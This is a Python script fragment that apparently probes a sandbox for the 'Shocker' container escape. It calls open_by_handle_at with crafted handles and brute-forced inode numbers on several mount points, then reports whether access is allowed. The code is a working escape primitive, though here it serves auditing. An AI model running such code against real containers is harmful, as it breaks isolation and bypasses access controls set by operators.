# "Shocker": files opened by inode number, past every path.
def handle_of(kind, payload):
    return struct.pack("<Ii", len(payload), kind) + payload


mounts = []
for path in ["/", "/usr", "/tmp", "/etc", "/dev", "/proc", os.getcwd()]:
    try:
        mounts.append((path, os.open(path, os.O_RDONLY | os.O_DIRECTORY)))
    except OSError:
        pass
fact("mounts", len(mounts))
opened = 0
refusals = set()
for path, descriptor in mounts:
    for kind, payload in [(1, struct.pack("<II", 2, 0)), (1, struct.pack("<II", 128, 0)), (0x81, struct.pack("<QI", 64, 0)),
                          (0xFE, b"\0" * 20)] + [(1, struct.pack("<II", inode, 0)) for inode in range(2, 300)]:
        buffer = ctypes.create_string_buffer(handle_of(kind, payload))
        result, error = system_call(304, descriptor, buffer, os.O_RDONLY)
        if error is None:
            opened += 1
        else:
            refusals.add(error)
for error in sorted(refusals):
    say("try", "open_by_handle_%s" % error, error)
if opened:
    say("try", "open_by_handle", "ALLOWED")
fact("opened", opened)
say("done")
